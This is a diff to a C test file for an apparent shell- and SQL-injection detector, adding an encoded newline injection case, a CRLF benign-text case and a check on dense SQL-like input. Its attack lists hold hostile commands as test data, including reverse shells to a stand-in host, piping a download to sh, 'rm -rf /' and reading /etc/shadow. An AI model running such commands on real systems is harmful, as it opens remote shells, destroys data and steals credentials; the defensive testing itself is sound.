@@ -133,7 +133,7 @@ TEST("commands behind separators and in substitutions are shell injection")
         "k; /?\?\?/c?t /etc/hosts", "k > /etc/cron.d/x", "k; bash -i >& /dev/tcp/k.example/9 0>&1", "() { :;}; k", "k; rm -rf /", "curl k.example/x | sh",
         "k & dir c:\\", "k | type c:\\k.txt", "cmd /c dir", "powershell -enc AAAA", "certutil -urlcache -f k", "nc -e /bin/sh k.example 9",
         "%0acat%20/etc/hosts", "k%3Bid", "k&#59;id", "k;wh$@oami", "for /f %i in ('dir') do echo %i", "cat /etc/shadow", "/bin/ls -la", "; sleep 9",
-        "<(sort k)", "$(tee k)", "\\nid;", "k|+dir+c:\\", "nohup ifconfig", "echo %PATH%", "k /etc/[s]hadow", "if 3 geq 2 echo k", "${SHELL} -c 'k'", NULL
+        "<(sort k)", "$(tee k)", "\\nid;", "k%0Did", "k|+dir+c:\\", "nohup ifconfig", "echo %PATH%", "k /etc/[s]hadow", "if 3 geq 2 echo k", "${SHELL} -c 'k'", NULL
     };
     attacks(ATTACK_SHELL, texts);
 }
@@ -144,7 +144,7 @@ TEST("lists, tables, entities and Markdown are none")
         "cats; dogs; find them all", "first this; then sort that", "black & white", "cat & dog", "R&D and Q&A", "Tom & Jerry; who else?", "a | b | c",
         "| id | name | date |", "&copy; 2024 & &amp;", "Use `ls -la` to list files, then `cat` them.", "the `id` column", "$(document).ready", "a=1&id=5&sort=2",
         "more; less; head; tail", "time; date; place", "make it last; kill time", "wait; who is that", "touch; dig; split", "rm is a command of Unix",
-        "5 > 3; 2 < 4", "go to bed & sleep well", "price: $(5)", "one\ntwo\nthree",
+        "5 > 3; 2 < 4", "go to bed & sleep well", "price: $(5)", "one\ntwo\nthree", "one\r\nfind\r\nthree",
         "bash python perl", "see (cat) and dog", "5% off and 10% more", "echo of $5", "if it is equal, say so", "the /etc/ folder", "exec (see below)", "find\nsort\nhead of the table", "date & time", "win; lose; draw", NULL
     };
     passes(texts);
@@ -252,6 +252,15 @@ TEST("rules and categories do what the operator says")
     CHECK(attack_rule_find(STR("no-such-rule")) == ATTACK_RULES_COUNT);
 }
 
+static bool is_dense(struct str text)
+{
+    struct attacks_found f = judge(text);
+    bool is = false;
+    for (size_t i = 0; i < f.count; i++)
+        is |= f.hits[i].rule == RULE_SQL_DENSE;
+    return is;
+}
+
 TEST("texts made to cost much are read within a budget, and then refused")
 {
     static const char *const parts[] = { "or(", "or 1=", "' or ", "<a '", "<a \"<", "(select ", "union select ", ";drop ", "`id", "$(", "%25", "&lt;", "/*", "case when ",
@@ -265,6 +274,13 @@ TEST("texts made to cost much are read within a budget, and then refused")
         judge(str_of(text, len));
         judge(str_of(text, len - 1));
     }
+    for (size_t at = 0; at + 4 <= LONG_BYTES; at += 4)
+        memcpy(text + at, "or (", 4);
+    CHECK(is_dense(str_of(text, LONG_BYTES)));
+    static const char prose[] = "Some of it is (mostly) prose, \"quoted\" here & there; and it's long or longer. ";
+    for (size_t at = 0; at + sizeof prose <= LONG_BYTES; at += sizeof prose - 1)
+        memcpy(text + at, prose, sizeof prose - 1);
+    CHECK(!is_dense(str_of(text, LONG_BYTES / 2)));
     free(text);
 }
 
